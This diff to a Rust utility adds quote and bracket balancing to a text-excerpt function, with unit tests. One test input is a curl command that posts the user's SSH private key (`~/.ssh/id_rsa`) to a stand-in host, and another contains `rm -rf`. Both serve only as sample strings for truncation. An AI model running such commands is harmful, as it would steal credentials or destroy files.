@@ -81,9 +81,65 @@ pub fn truncate_chars(text: &str, max: usize) -> String {
     }
 }
 
-/// A short excerpt for a message: one line, escaped, at most `max` chars.
+/// A short excerpt for a message: one line, escaped, at most `max` chars. When the cut
+/// leaves a quotation mark, backtick or bracket open, its closer follows the ellipsis
+/// (`"curl -s -X POST …"`), so a message's own quoting stays balanced.
 pub fn excerpt(text: &str, max: usize) -> String {
-    truncate_chars(&escape_one_line(text.trim()), max)
+    let line = escape_one_line(text.trim());
+    let cut = truncate_chars(&line, max);
+    if !cut.ends_with('…') {
+        return cut;
+    }
+    // Room for the closers inside `max`: the excerpt stays at most `max` chars and the `…`.
+    // A shorter cut may leave other brackets open, so shorten until they fit.
+    let mut keep = max;
+    loop {
+        let cut = truncate_chars(&line, keep);
+        let balanced = balance(cut.clone());
+        if balanced.chars().count() <= max + 1 || keep == 0 {
+            return balanced;
+        }
+        keep -= 1;
+    }
+}
+
+/// Appends the closers of the quotes and brackets `s` leaves open, innermost first.
+fn balance(mut s: String) -> String {
+    let mut open: Vec<char> = Vec::new();
+    for c in s.chars() {
+        match c {
+            '"' | '`' => {
+                if open.last() == Some(&c) {
+                    open.pop();
+                } else {
+                    open.push(c);
+                }
+            }
+            '(' | '[' | '{' | '“' => open.push(c),
+            ')' | ']' | '}' | '”' => {
+                let opener = match c {
+                    ')' => '(',
+                    ']' => '[',
+                    '}' => '{',
+                    _ => '“',
+                };
+                if open.last() == Some(&opener) {
+                    open.pop();
+                }
+            }
+            _ => {}
+        }
+    }
+    for c in open.into_iter().rev() {
+        s.push(match c {
+            '(' => ')',
+            '[' => ']',
+            '{' => '}',
+            '“' => '”',
+            other => other,
+        });
+    }
+    s
 }
 
 #[cfg(test)]
@@ -95,6 +151,27 @@ mod tests {
         assert_eq!(escape_invisible("a\u{202E}b"), "a<U+202E>b");
         assert_eq!(escape_invisible("héllo 世界"), "héllo 世界");
         assert_eq!(escape_invisible("x\r\n"), "x<U+000D>\n");
+    }
+
+    #[test]
+    fn a_cut_excerpt_closes_what_it_left_open() {
+        assert_eq!(
+            excerpt(
+                "curl -s -X POST \"https://x.example/upload?data=$(cat ~/.ssh/id_rsa)\"",
+                30
+            ),
+            "curl -s -X POST \"https://x.ex…\""
+        );
+        assert_eq!(
+            excerpt("run `rm -rf (all the things)` now", 16),
+            "run `rm -rf (a…)`"
+        );
+        // Nothing cut, nothing added; a closed pair stays as it is.
+        assert_eq!(excerpt("say \"hi\" (twice)", 80), "say \"hi\" (twice)");
+        assert_eq!(
+            excerpt("say \"hi\" and then more words", 12),
+            "say \"hi\" and…"
+        );
     }
 
     #[test]
